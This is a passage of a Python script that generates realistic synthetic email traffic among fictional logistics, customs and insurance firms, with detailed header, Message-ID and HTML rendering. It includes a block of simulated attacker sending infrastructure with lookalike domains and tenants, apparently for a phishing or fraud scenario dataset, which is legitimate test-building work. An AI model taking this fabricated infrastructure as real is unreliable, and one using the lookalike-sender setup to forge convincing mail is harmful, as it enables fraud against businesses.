          "\n\nMet vriendelijke groet / Kind regards,\n\nRuud Verhoeven\nDirecteur\nVerhoeven Transport B.V.\nCelsiusweg 14, 5928 PR Venlo (NL)\nT +31 77 555 8800", AMS)
mihai = Pt("Mihai Ionescu", "mihai.ionescu@transcarpatia.example", "olios", "exo-transcarpatia", "", BUC)
MIHAI_FULLSIG = ("\n\nMihai Ionescu\nAdministrator\nTRANSCARPATIA SRL\nCalea Aurel Vlaicu 276, 310141 Arad, Romania\nMobile +40 744 555 318")
andreea = Pt("Andreea Stan", "contabilitate@transcarpatia.example", "exoro", "exo-transcarpatia",
             "\n\nBest regards,\nAndreea Stan\nContabilitate / Accounting\nTRANSCARPATIA SRL\nCalea Aurel Vlaicu 276, 310141 Arad, Romania\nTel. +40 257 555 140",
             BUC, disp="TransCarpatia Contabilitate")
katja = Pt("Katja Möller", "k.moeller@brockhoff-zoll.example", "hx19", "hostedex",
           "\n\nFreundliche Grüße\n\nKatja Möller\nZolldeklarantin\nBrockhoff & Partner Zollagentur GmbH\nDr.-Hammacher-Straße 12 · 47119 Duisburg-Ruhrort\n"
           "Tel. +49 203 555 8130 · zoll@brockhoff-zoll.example\nEORI DE4410552871234 · Zugelassener Wirtschaftsbeteiligter (AEO-C)")
janp = Pt("Jan Peters", "j.peters@brockhoff-zoll.example", "hx19", "hostedex",
          "\n\nFreundliche Grüße\n\nJan Peters\nZolldeklarant\nBrockhoff & Partner Zollagentur GmbH\nDr.-Hammacher-Straße 12 · 47119 Duisburg-Ruhrort\n"
          "Tel. +49 203 555 8134 · zoll@brockhoff-zoll.example\nEORI DE4410552871234 · Zugelassener Wirtschaftsbeteiligter (AEO-C)")
nicole = Pt("Nicole Steinbach", "nicole.steinbach@rhenania-versicherung.example", "exode", "exo-rhenania",
            "\n\nMit freundlichen Grüßen\n\nNicole Steinbach\nSchadenmanagement Transport / Verkehrshaftung\nRhenania Transportversicherung AG\n"
            "Kaiser-Wilhelm-Ring 40 · 50672 Köln\nTel. +49 221 555 6418\nSitz Köln · Registergericht Köln HRB 40017 · Vorstand: Dr. A. Lenz (Vors.), M. Otte")
terhaar = Pt("Ralf Terhaar", "r.terhaar@terhaar-havarie.example", "apple", "strato-terhaar",
             "\n\n—\nRalf Terhaar\nHavariekommissar / Sachverständiger für Transportschäden\nTerhaar Havariekommissariat · Emmerich am Rhein\nMobil +49 172 555 6604",
             ip="91.64.118.203")
dirk = Pt("Dirk Schäfer", "dirk.schaefer-transporte@gmx.de", "gmxweb", "gmx",
          "\n\n--\nDirk Schäfer Transporte\nContainer- und Nahverkehr\nAm Stapp 5, 46537 Dinslaken\nTel. 02064 555 318 / Mobil 0151 5552 7730", ip="93.199.18.42")
murat = Pt("Murat Keskin", "keskin.transporte@web.de", "webdeapp", "webde", "\n\nGesendet mit der WEB.DE Mail App", ip="109.40.243.17")
fp = Pt("FrachtPilot", "noreply@notify.frachtpilot.example", "ses", "ses", "", UTC)
fpbill = Pt("FrachtPilot Abrechnung", "rechnung@frachtpilot.example", "ses", "ses", "", UTC)
fpsup = Pt("FrachtPilot Kundenservice", "support@frachtpilot.example", "zendesk", "zendesk", "", UTC)
datev = Pt("DATEV Unternehmen online", "noreply@unternehmen-online.datev.example", "datev", "datev", "", BER)
news = Pt("Logistik-Kompass", "newsletter@logistik-kompass.example", "nl", "esp-news", "", BER)
maut = Pt("Maut-Service Portal", "no-reply@maut-service-portal.example", "maut", "maut", "", BER)
LIST = "ak-dispo@lists.vlnr.example"

# ---------------------------------------------------------------------------------------------------------------- infrastructure
# mailbox hosts inside Microsoft 365 tenants (one per person), Exchange on-prem names
EXOH = {joerg: ("FR4P281MB3518", "DEUP281"), sandra: ("FR4P281MB2907", "DEUP281"), nicole: ("BE1P281MB2290", "DEUP281"),
        marloes: ("AM8PR08MB5731", "eurprd08"), thijs: ("AM8PR08MB6604", "eurprd08"), ruud: ("AM8PR08MB5731", "eurprd08"),
        mihai: ("VI1PR02MB6178", "eurprd02"), andreea: ("VI1PR02MB4410", "eurprd02")}
TENANT = {d: str(uuid.UUID(int=R.getrandbits(128), version=4)) for d in
          ("schuermann-stahl.example", "rhenania-versicherung.example", "verhoeven-transport.example", "transcarpatia.example",
           "brandt-verpackungen.example", "schuerman-stahl.example", "outlook.com")}
# helo/rdns, ip, dkim d, dkim s (None: unsigned), envelope domain (None: From domain), DMARC policy (None: no record)
INFRA = {
    "exo-schuermann": ("mail-fr2deu01on2111.outbound.protection.outlook.com", "40.107.135.111", "schuermann-stahl.example", "selector1", None, "quarantine"),
    "exo-rhenania": ("mail-be0deu01on2128.outbound.protection.outlook.com", "40.107.136.128", "rhenania-versicherung.example", "selector2", None, "reject"),
    "exo-verhoeven": ("mail-am7eur03on2071.outbound.protection.outlook.com", "40.107.105.71", "verhoeven-transport.example", "selector1", None, "none"),
    "exo-transcarpatia": ("mail-vi1eur02on2093.outbound.protection.outlook.com", "40.107.241.93", "transcarpatia.example", "selector1", None, "none"),
    "exo-brandt": ("mail-fr3deu01on2104.outbound.protection.outlook.com", "40.107.138.104", "brandt-verpackungen.example", "selector1", None, None),
    "weidner": ("esa2.weidner-chemie.example", "194.25.151.38", "weidner-chemie.example", "esa", None, "reject"),
    "ionos": ("mout.kundenserver.de", "212.227.126.134", None, None, None, None),
    "hostpl": ("smtp.hosting-wlkp.example", "185.243.53.21", "trans-pol.example", "hw1", None, "none"),
    "gmail": ("mail-ed1-f48.google.com", "209.85.208.48", "gmail.com", "20230601", None, "none"),
    "sendgrid": ("o7.ptr4218.send.kargosnap.example", "149.72.131.7", "kargosnap.example", "s1", "em4218.kargosnap.example", "none"),
    "hostedex": ("smtp-out2.hosted-exchange.example", "195.30.84.12", "brockhoff-zoll.example", "hx2024", None, "none"),
    "strato-terhaar": ("mo4-p00-ob.smtp.strato.example", "81.169.146.177", "terhaar-havarie.example", "strato-dkim-0002", None, None),
    "gmx": ("mout.gmx.net", "212.227.17.21", "gmx.de", "s31663417", None, "none"),
    "webde": ("mout.web.de", "212.227.15.3", "web.de", "s29768273", None, "none"),
    "ses": ("a7-14.smtp-out.eu-central-1.amazonses.com", "54.240.7.14", "frachtpilot.example", "fpmail", "eu-central-1.amazonses.com", "quarantine"),
    "zendesk": ("outbyoip12.pod17.euc1.zdsys.com", "188.172.138.12", "frachtpilot.example", "zendesk1", "frachtpilot.zendesk.com", "quarantine"),
    "datev": ("mout01.datev.example", "193.27.50.81", "datev.example", "dtv2023", None, "reject"),
    "esp-news": ("mta12.cr-mailing.example", "46.243.95.112", "logistik-kompass.example", "cr", "bounce.cr-mailing.example", "none"),
    "maut": ("mailout2.maut-service-portal.example", "62.157.140.28", "maut-service-portal.example", "mail2024", None, "reject"),
    "list": ("lists.vlnr.example", "213.95.27.140", "lists.vlnr.example", "mm3", "lists.vlnr.example", None),
    # attackers
    "strato-bakery": ("mo6-p00-ob.smtp.strato.example", "81.169.146.189", "baeckerei-overbeck.example", "strato-dkim-0002", None, None),
    "outlookcom": ("EUR05-DB8-obe.outbound.protection.outlook.com", "52.101.69.38", "outlook.com", "selector1", None, "none"),
    "cpanel-autohaus": ("server17.webhost-nrw.example", "178.254.10.17", "autohaus-terhorst.example", "default", None, None),
    "exo-lookalike": ("mail-fr6deu01on2090.outbound.protection.outlook.com", "40.107.139.90", "schuermanstahl.onmicrosoft.com",
                      "selector1-schuermanstahl-onmicrosoft-com", None, None),
    "vps-fp": ("mail.frachtpilot-service.example", "45.137.21.84", "frachtpilot-service.example", "default", None, "none"),
    "vps-kroll": ("mx.kroll-havarie-sv.example", "193.42.33.61", "kroll-havarie-sv.example", "mail", None, None),
    "vps-novadata": ("smtp.novadata-kundenservice.example", "141.98.10.77", None, None, None, None),
}
OUTLIST = {"exode", "exonl", "exoro", "olios", "iphoneexo", "outlookcom", "smtpauth"}
GW = "mx1." + OWN


def exv(t):  # Exchange 2019 build of the own server: CU15 installed in the maintenance window of 22 Feb 2025
    return ("15.2.1544.14", "15.02.1544.014") if t < datetime.datetime(2025, 2, 22, tzinfo=BER) else ("15.2.1748.10", "15.02.1748.010")


def exo_build(t):
    for lim, b in ((datetime.datetime(2024, 11, 1, tzinfo=UTC), "8005.020"), (datetime.datetime(2025, 1, 1, tzinfo=UTC), "8207.017"),
                   (datetime.datetime(2025, 2, 1, tzinfo=UTC), "8356.018"), (datetime.datetime(2025, 3, 1, tzinfo=UTC), "8445.013"),
                   (datetime.datetime(2025, 4, 1, tzinfo=UTC), "8534.027"), (datetime.datetime(2025, 5, 1, tzinfo=UTC), "8632.025"),
                   (datetime.datetime(2025, 6, 1, tzinfo=UTC), "8722.031")):
        if t < lim: return "15.20." + b
    return "15.20.8835.018"


def utcs(t): return t.astimezone(UTC).strftime("%a, %-d %b %Y %H:%M:%S +0000")
def loc(t, tz=None): return (t.astimezone(tz) if tz else t).strftime("%a, %-d %b %Y %H:%M:%S %z")
def postfix_date(t):
    t = t.astimezone(BER); return f"{t:%a}, {t.day:2d} {t:%b %Y %H:%M:%S %z} ({t.tzname()})"
def pqid(): return "4" + R.choice("XYZ") + alnum(2) + R.choice("0123456789") + alnum(11)
def h16(): return format(R.getrandbits(16), "x")
def v6(): return f"{h16()}:{h16()}:{h16()}:{h16()}"


def make_mid(who, client, t):
    if client in ("ol19",): return f"<{hx(32)}@RPS-EX01.rheinport.local>"
    if client == "tms": return f"<DN9.{R.randint(10**7, 10**8 - 1)}.{int(t.timestamp())}@rps-tms01.rheinport.local>"
    if client in ("exode", "exonl", "exoro", "olios", "owa"):
        host, reg = EXOH[who] if who in EXOH else getattr(who, "exo", ("FR3P281MB1647", "DEUP281"))
        if reg.isupper(): return f"<{host}{HX(R.choice((16, 20, 24)))}@{host}.{reg}.PROD.OUTLOOK.COM>"
        return f"<{host}{HX(R.choice((16, 20, 24)))}@{host}.{reg}.prod.outlook.com>"
    if client == "outlookcom": return f"<DB9P189MB1988{HX(20)}@DB9P189MB1988.EURP189.PROD.OUTLOOK.COM>"
    if client == "ex16": return f"<{hx(32)}@WCU-EXMB02.weidner.local>"
    if client == "hx19": return f"<{hx(32)}@EXMBX04.hosted-exchange.example>"
    if client == "tbde": return f"<{ruuid()}@{who.dom}>"
    if client in ("iphoneexo", "iphoneint", "apple"): return f"<{ruuid().upper()}@{who.dom}>"
    if client in ("ol16pl", "ol16"):
        ft = int((t.timestamp() + 11644473600) * 10**7)
        return f"<{R.randint(0, 0x3f):04x}{ft >> 32:08x}${ft & 0xffffffff:08x}${R.getrandbits(32):08x}$@{who.dom}>"
    if client in ("gmailpl", "gmailen"): return "<CA" + base64.b64encode(rbytes(R.choice((36, 37, 39)))).decode().rstrip("=").replace("/", "_") + "@mail.gmail.com>"
    if client == "sendgrid": return f"<{alnum(22)}@geopod-ismtpd-{R.randint(1, 14)}>"
    if client == "gmxweb": return f"<trinity-{ruuid()}-{int(t.timestamp() * 1000)}@3c-app-gmx-bap{R.choice((14, 27, 41, 52))}>"
    if client in ("gmxapp", "webdeapp"): return f"<{ruuid().upper()}@{who.dom}>"
    if client == "ox": return f"<{R.randint(10**8, 10**9 - 1)}.{R.randint(10**5, 10**6 - 1)}.{int(t.timestamp() * 1000)}@email.ionos.de>"
    if client in ("roundcube", "roundcubede"): return f"<{hx(32)}@{who.dom}>"
    if client == "ses": return f"<0107019{hx(9)}-{ruuid()}-000000@eu-central-1.amazonses.com>"
    if client == "zendesk": return f"<{alnum(10).upper()}_{hx(13)}_{hx(6)}_sprut@zendesk.com>"
    if client == "datev": return f"<{ruuid()}@unternehmen-online.datev.example>"
    if client == "nl": return f"<{int(t.timestamp())}.{R.randint(10**6, 10**7)}.{hx(8)}@cr-mailing.example>"
    if client == "maut": return f"<{hx(20)}.{int(t.timestamp())}@maut-service-portal.example>"
    if client == "smtpauth": return f"<{int(t.timestamp() * 100)}.{R.randint(1000, 9999)}.{R.randint(10**18, 10**19 - 1)}@vmi2236614.contaboserver.example>"
    if client == "strato": return f"<{t.astimezone(UTC):%Y%m%d%H%M%S}.{HX(16)}@{who.dom}>"
    if client == "phpmailer": return f"<{alnum(40)}@{who.dom}>"
    return f"<{hx(24)}@{who.dom}>"


QLANG = {"ol19": "de", "exode": "de", "hx19": "de", "ex16": "de16", "ol16pl": "pl", "ol16": "de16", "exonl": "nl", "exoro": "ro",
         "olios": "en-ios", "outlookcom": "de", "iphoneexo": "apple-de", "iphoneint": "apple-de", "apple": "apple-de", "tbde": "tb",
         "gmailpl": "gmail-pl", "gmailen": "gmail-en", "gmxweb": "gmx", "gmxapp": "app-de", "webdeapp": "app-de", "ox": "ox",
         "roundcube": "rc-pl", "roundcubede": "rc-de", "strato": "de16", "smtpauth": "de"}


def _pfx(text, p="> "): return "\n".join((p + l) if l else p.rstrip() for l in text.split("\n"))


def quote_parts(client, q):
    """(header-or-attribution, quoted text, style) of record q as the replying client writes it; style 'ms' (unprefixed block
    under a header) or 'gt' ('>'-prefixed under an attribution line)"""
    ql = QLANG.get(client, "de"); tz = {"pl": WAW, "rc-pl": WAW, "gmail-pl": WAW, "nl": AMS, "ro": BUC, "en-ios": BUC, "gmail-en": LAG}.get(ql, BER)
    t = q["t"].astimezone(tz); name, email, disp = q["name"], q["email"], q.get("disp", q["name"])
    tos = "; ".join(f"{n} <{e}>" for n, e in q["to"]); ccs = "; ".join(f"{n} <{e}>" for n, e in q["cc"])
    wd, mo = t.weekday(), t.month - 1
    if ql in ("de", "de16", "pl", "nl", "ro"):
        if ql == "de": rows = [("Von", f"{disp} <{email}>"), ("Gesendet", f"{WD['de'][wd]}, {t.day}. {MO['de'][mo]} {t.year} {t:%H:%M}"), ("An", tos), ("Cc", ccs), ("Betreff", q["subj"])]
        elif ql == "de16": rows = [("Von", f"{disp} [mailto:{email}] "), ("Gesendet", f"{WD['de'][wd]}, {t.day}. {MO['de'][mo]} {t.year} {t:%H:%M}"), ("An", tos), ("Cc", ccs), ("Betreff", q["subj"])]
        elif ql == "pl": rows = [("Od", f"{disp} [mailto:{email}] "), ("Wysłano", f"{WD['pl'][wd]}, {t.day} {MO['pl'][mo]} {t.year} {t:%H:%M}"), ("Do", tos), ("DW", ccs), ("Temat", q["subj"])]
        elif ql == "nl": rows = [("Van", f"{disp} <{email}>"), ("Verzonden", f"{WD['nl'][wd]} {t.day} {MO['nl'][mo]} {t.year} {t:%H:%M}"), ("Aan", tos), ("CC", ccs), ("Onderwerp", q["subj"])]
        else: rows = [("De la", f"{disp} <{email}>"), ("Trimis", f"{WD['ro'][wd]}, {t.day} {MO['ro'][mo]} {t.year} {t:%H:%M}"), ("Către", tos), ("Cc", ccs), ("Subiect", q["subj"])]
        return "\n".join(f"{k}: {v}" for k, v in rows if v), q["plain"], "ms"
    if ql == "en-ios":
        h12 = t.hour % 12 or 12
        rows = [("From", f"{disp} <{email}>"), ("Sent", f"{WD['en'][wd]}, {MO['en'][mo]} {t.day}, {t.year} {h12}:{t:%M:%S} {'AM' if t.hour < 12 else 'PM'}"),
                ("To", tos), ("Cc", ccs), ("Subject", q["subj"])]
        return "________________________________\n" + "\n".join(f"{k}: {v}" for k, v in rows if v), q["plain"], "ms"
    if ql == "gmx":
        rows = [("Gesendet", f"{WD['de'][wd]}, {t:%d}. {MO['de'][mo]} {t.year} um {t:%H:%M} Uhr"), ("Von", f'"{name}" <{email}>'),
                ("An", ", ".join(f'"{n}" <{e}>' for n, e in q["to"])), ("Cc", ", ".join(f'"{n}" <{e}>' for n, e in q["cc"])), ("Betreff", q["subj"])]
        return "\n".join(f"{k}: {v}" for k, v in rows if v), q["plain"], "gmx"
    if ql == "tb": return f"Am {t:%d.%m.%y} um {t:%H:%M} schrieb {name}:", q["plain"], "gt"
    if ql == "gmail-pl": return f"W dniu {PL_WD_SHORT[wd]} {t.day} {PL_MO_SHORT[mo]} {t.year} o {t:%H:%M} {name} <{email}> napisał(a):", q["plain"], "gt"
    if ql == "gmail-en": return f"On {t:%a}, {t.day} {t:%b} {t.year} at {t:%H:%M}, {name} <{email}> wrote:", q["plain"], "gt"
    if ql == "apple-de": return f"Am {t:%d.%m.%Y} um {t:%H:%M} schrieb {name} <{email}>:", q["plain"], "apple"
    if ql == "app-de": return f"Am {t:%d.%m.%Y} {t:%H:%M} schrieb {name} <{email}>:", q["plain"], "gt"
    if ql == "ox": return f"{name} <{email}> hat am {t:%d.%m.%Y} {t:%H:%M} {t.tzname()} geschrieben:", q["plain"], "ox"
    if ql == "rc-de": return f"Am {t:%d.%m.%Y} {t:%H:%M}, schrieb {name}:", q["plain"], "gt"
    if ql == "rc-pl": return f"W dniu {t.day}.{t:%m.%Y} o {t:%H:%M}, {name} napisał(a):", q["plain"], "gt"
    return f"{name} wrote:", q["plain"], "gt"


def render_quote_plain(hdr, qtext, style):
    if style == "ms": return "\n\n" + hdr + "\n\n" + qtext
    if style == "gmx": return "\n\n\n" + hdr + "\n\n" + qtext
    if style == "apple": return "\n\n> " + hdr + "\n> \n" + _pfx(qtext)
    if style == "ox": return "\n\n> " + hdr + "\n> \n> \n" + _pfx(qtext)
    return "\n\n" + hdr + "\n" + _pfx(qtext)


def esc(text): return "<br>\n".join(H.escape(l) for l in text.split("\n"))


def html_of(client, body, q=None):
    """HTML alternative of a message: body = reply text incl. signature; q = (hdr, quoted, style) or None"""
    fam = client
    if client in ("ol19", "exode", "ex16", "hx19", "exonl", "exoro", "ol16pl", "ol16", "outlookcom", "strato"):
        lang = {"exonl": "NL", "exoro": "RO", "ol16pl": "PL"}.get(client, "DE")
        paras = "\n".join(f'<p class="MsoNormal">{H.escape(l) if l else "&nbsp;"}<o:p></o:p></p>' for l in body.split("\n"))
        qh = ""
        if q:
            hl = []
            for l in q[0].split("\n"):
                if ":" in l and not l.startswith("_"):
                    k, v = l.split(":", 1); hl.append(f"<b>{H.escape(k)}:</b>{H.escape(v)}")
            qh = ('\n<div>\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">\n<p class="MsoNormal"><b><span lang="'
                  + lang + '">' + "<br>\n".join(hl) + "<o:p></o:p></span></b></p>\n</div>\n</div>\n"
                  + "\n".join(f'<p class="MsoNormal">{H.escape(l) if l else "&nbsp;"}<o:p></o:p></p>' for l in q[1].split("\n")))
        gen = "Microsoft Word 15 (filtered medium)"
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" '
                f'content="text/html; charset=utf-8">\n<meta name="Generator" content="{gen}">\n<style><!--\n/* Font Definitions */\n@font-face\n\t{{font-family:"Cambria Math";'
                '\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n@font-face\n\t{font-family:Calibri;\n\tpanose-1:2 15 5 2 2 2 4 3 2 4;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n'
                '\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Calibri",sans-serif;}\n--></style>\n</head>\n<body lang="' + lang + '" link="#0563C1" vlink="#954F72" '
                'style="word-wrap:break-word">\n<div class="WordSection1">\n' + paras + qh + "\n</div>\n</body>\n</html>")
    if client == "olios":
        qh = ""
        if q:
            rows = [l for l in q[0].split("\n") if ":" in l]
            qh = ('<div id="mail-editor-reference-message-container"><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr">'
                  '<font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">' + "<br>".join(f"<b>{H.escape(r.split(':', 1)[0])}:</b>{H.escape(r.split(':', 1)[1])}" for r in rows)
                  + "</font><div>&nbsp;</div></div>" + f"<div>{esc(q[1])}</div></div>")
        return ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n<body>\n<div dir="auto">' + esc(body.split("\n\nGet Outlook for iOS")[0])
                + '</div>\n<div dir="auto"><br></div>\n<div class="ms-outlook-mobile-signature"><div dir="auto">Get <a href="https://aka.ms/o0ukef">Outlook for iOS</a></div></div>\n'
                + qh + "\n</body>\n</html>")
    if client in ("gmailpl", "gmailen"):
        qh = (f'<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">{H.escape(q[0])}<br></div><blockquote class="gmail_quote" '
              f'style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">{esc(q[1])}</blockquote></div>') if q else ""
        return f'<div dir="ltr">{esc(body)}</div>{qh}\n'
    if client == "tbde":
        parts = body.split("\n\n-- \n", 1)
        sig = f'\n    <pre class="moz-signature" cols="72">-- \n{H.escape(parts[1])}</pre>' if len(parts) > 1 else ""
        qh = (f'\n    <div class="moz-cite-prefix">{H.escape(q[0])}<br>\n    </div>\n    <blockquote type="cite">{esc(q[1])}</blockquote>') if q else ""
        return ('<!DOCTYPE html>\n<html>\n  <head>\n    <meta http-equiv="content-type" content="text/html; charset=UTF-8">\n  </head>\n  <body>\n    <p>'
                + esc(parts[0]) + "</p>" + sig + qh + "\n  </body>\n</html>\n")
    if client in ("gmxweb", "gmxapp"):
        qh = ""
        if q:
            rows = q[0].split("\n")
            qh = ('\n<div>&nbsp;\n<div name="quote" style="margin:10px 5px 5px 10px; padding: 10px 0 10px 10px; border-left:2px solid #C3D9E5; word-wrap: break-word; '
                  '-webkit-nbsp-mode: space; -webkit-line-break: after-white-space;">\n<div style="margin:0 0 10px 0;">'
                  + "<br/>\n".join(f"<b>{H.escape(r.split(':', 1)[0])}:</b>{H.escape(r.split(':', 1)[1])}" if ":" in r else H.escape(r) for r in rows)
                  + f'</div>\n<div name="quoted-content">{esc(q[1])}</div>\n</div>\n</div>')
        return f'<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>{esc(body)}</div>{qh}</div></body></html>\n'
    if client in ("apple", "iphoneexo", "iphoneint"):
        qh = (f'<div dir="ltr"><br><blockquote type="cite">{H.escape(q[0])}<br><br></blockquote></div><blockquote type="cite"><div dir="ltr">{esc(q[1])}</div></blockquote>') if q else ""
        return ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; '
                f'-webkit-nbsp-mode: space; line-break: after-white-space;"><div dir="ltr">{esc(body)}</div>{qh}</body></html>')
    if client == "ox":
        qh = (f'\n  <blockquote type="cite">\n   <div>\n    {H.escape(q[0])}\n   </div>\n   <div>\n    &nbsp;\n   </div>\n   <div>{esc(q[1])}</div>\n  </blockquote>') if q else ""
        return ('<!doctype html>\n<html>\n <head>\n  <meta charset="UTF-8">\n </head>\n <body>\n  <div>\n   ' + esc(body) + "\n  </div>" + qh + "\n </body>\n</html>")
    if client in ("roundcube", "roundcubede"):
        qh = (f'\n<p id="reply-intro">{H.escape(q[0])}</p>\n<blockquote type="cite" style="padding: 0 0.4em; border-left: #1010ff 2px solid; margin: 0">\n'
              f'<div class="pre" style="margin: 0; padding: 0; font-family: monospace">{esc(q[1])}</div>\n</blockquote>') if q else ""
        return ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
                f"<p>{esc(body)}</p>{qh}\n</body></html>\n")
    return None


def sender_hops(who, client, infra, t, env, orig_ip=None):
    """Received (and related) lines written before the message reaches mx1, newest first"""
    h = []
    t0 = t; t1 = dsec(t, 1, 2)
    if infra.startswith("exo") or infra == "outlookcom":
        host, reg = (EXOH.get(who) or getattr(who, "exo", None) or ("FR3P281MB1647", "DEUP281"))
        if infra == "outlookcom": host, reg = "DB9P189MB1988", "EURP189"
        up = reg.isupper(); dom = f"{reg}.PROD.OUTLOOK.COM" if up else f"{reg}.prod.outlook.com"
        host2 = host[:-4] + str(R.randint(1000, 9999)); b = exo_build(t)
        h.append(("Received", f"from {host}.{dom} (2603:10a6:{h16()[:3]}:{h16()[:2]}::{h16()[:2]}) by\n {host2}.{dom} (2603:10a6:{h16()[:3]}:{h16()[:2]}::{h16()[:1]}) with Microsoft SMTP Server (version=TLS1_2,\n"
                              f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {b}; {utcs(t1)}"))
        if client == "smtpauth":
            ca = host[:4] + "CA00" + str(R.randint(10, 99))
            h.append(("Received", f"from [{orig_ip}] ({orig_ip}) by {ca}.{dom} (2603:10a6:{h16()[:3]}:{h16()[:2]}::{h16()[:2]}) with Microsoft SMTP Server\n"
                                  f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {b} via Frontend Transport; {utcs(t0)}"))
        else:
            h.append(("Received", f"from {host}.{dom} ([fe80::{v6()}]) by {host}.{dom}\n ([fe80::{v6()}%{R.choice((3, 4, 5, 6))}]) with mapi id {b}; {utcs(t0)}"))
        return h
    if infra == "weidner":
        h.append(("Received", f"from unknown (HELO WCU-EXCAS01.weidner.local) ([172.16.4.30])\n  by esa2.weidner-chemie.example with ESMTP/TLS/ECDHE-RSA-AES256-GCM-SHA384; {loc(dsec(t, 1, 3), BER)}"))
        h.append(("Received", f"from WCU-EXMB02.weidner.local (172.16.4.22) by WCU-EXCAS01.weidner.local\n (172.16.4.30) with Microsoft SMTP Server (version=TLS1_2,\n"
                              f" cipher=TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA384) id 15.1.2507.39; {loc(t1, BER)}"))
        h.append(("Received", f"from WCU-EXMB02.weidner.local ([fe80::a1c4:6f2:91d0:3b7e]) by\n WCU-EXMB02.weidner.local ([fe80::a1c4:6f2:91d0:3b7e%14]) with mapi id\n 15.01.2507.039; {loc(t0, BER)}"))
        return h
    if infra == "ionos":
        if client == "ox":
            h.append(("Received", f"from oxbsgw{R.choice((21, 26, 33))}.schlund.de ([172.19.249.{R.randint(20, 240)}]) by mrelayeu.kundenserver.de\n (mreue0{R.randint(10, 19)} [212.227.15.167])"
                                  f" with ESMTPSA (Nemesis) id 1M{alnum(5)}-1t{alnum(9)}; {loc(t0, BER)}"))
        else:
            h.append(("Received", f"from [192.168.178.34] ([{who.ip}]) by mrelayeu.kundenserver.de\n (mreue1{R.randint(6, 9):02d} [212.227.15.183]) with ESMTPSA (Nemesis) id\n"
                                  f" 1M{alnum(5)}-1t{alnum(9)}; {loc(t0, BER)}"))
        return h
    if infra == "hostpl":
        if client == "roundcube":
            h.append(("Received", f"from webmail.hosting-wlkp.example (webmail.hosting-wlkp.example [10.10.4.21])\n\t(Authenticated sender: {who.email})\n"
                                  f"\tby smtp.hosting-wlkp.example (Postfix) with ESMTPSA id 4{alnum(1).upper()}{alnum(12)};\n\t{postfix_date(t1)}"))
            h.append(("Received", f"from {orig_ip} ([{orig_ip}])\n\tby webmail.hosting-wlkp.example\n\twith HTTP (HTTP/1.1 POST); {t0.astimezone(WAW):%a, %d %b %Y %H:%M:%S %z}"))
        else:
            h.append(("Received", f"from {who.host} (user-{who.ip.replace('.', '-')}.play-internet.example [{who.ip}])\n\t(Authenticated sender: {who.email})\n"
                                  f"\tby smtp.hosting-wlkp.example (Postfix) with ESMTPSA id 4{alnum(1).upper()}{alnum(12)};\n\t{postfix_date(t0)}"))
        return h
    if infra == "gmail":
        h += [("X-Google-DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(t0.timestamp())}; x={int(t0.timestamp()) + 604800};\n"
                                          f"        h=to:subject:message-id:date:from:in-reply-to:references:mime-version\n         :x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
                                          f"        bh={b64(32)};\n        b={b64(120)}"),
              ("X-Gm-Message-State", f"AOJu0Y{alnum(70)}"), ("X-Gm-Gg", f"ASbGnc{alnum(110)}"),
              ("X-Google-Smtp-Source", f"AGHT+I{alnum(56)}=="),
              ("X-Received", f"by 2002:a05:6402:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}.{R.randint(10, 99)}.{int(t0.timestamp())}{R.randint(100, 999)};\n"
                             f"        {t0.astimezone(PAC):%a, %d %b %Y %H:%M:%S %z (%Z)}")]
        return h
    if infra == "sendgrid":
        u = t0.astimezone(UTC)
        h.append(("Received", f"by filterdrecv-{hx(10)}-{alnum(5).lower()} with SMTP id filterdrecv-{hx(10)}-{alnum(5).lower()}-1-{HX(8)}-{HX(2)}\n"
                              f"        {u:%Y-%m-%d %H:%M:%S}.{R.randint(10**8, 10**9 - 1)} +0000 UTC m=+{R.randint(100000, 999999)}.{R.randint(10**8, 10**9 - 1)}"))
        h.append(("Received", f"from kargosnap-api-prod-{R.randint(1, 6)} (unknown)\n\tby geopod-ismtpd-{R.randint(1, 14)} (SG) with HTTP\n\tid {alnum(22)}\n"
                              f"\tfor <{me.email}>;\n\t{u:%a, %d %b %Y %H:%M:%S}.{R.randint(100, 999)} +0000 (UTC)"))
        return h
    if infra == "hostedex":
        h.append(("Received", f"from EXMBX04.hosted-exchange.example (10.60.4.14) by\n EXMBX02.hosted-exchange.example (10.60.4.12) with Microsoft SMTP Server\n"
                              f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.11;\n {loc(t1, BER)}"))
        h.append(("Received", f"from EXMBX04.hosted-exchange.example ([fe80::6c1d:92ab:40f3:e215]) by\n EXMBX04.hosted-exchange.example ([fe80::6c1d:92ab:40f3:e215%13]) with mapi id\n"
                              f" 15.02.1544.011; {loc(t0, BER)}"))
        return h
    if infra in ("strato-terhaar", "strato-bakery"):
        src = "smtpclient.apple" if client == "apple" else f"DESKTOP-{HX(7)}"
        rd = f"dslb-{orig_ip.replace('.', '-')}.pools.vodafone-ip.example [{orig_ip}]" if client == "apple" else f"[{orig_ip}]"
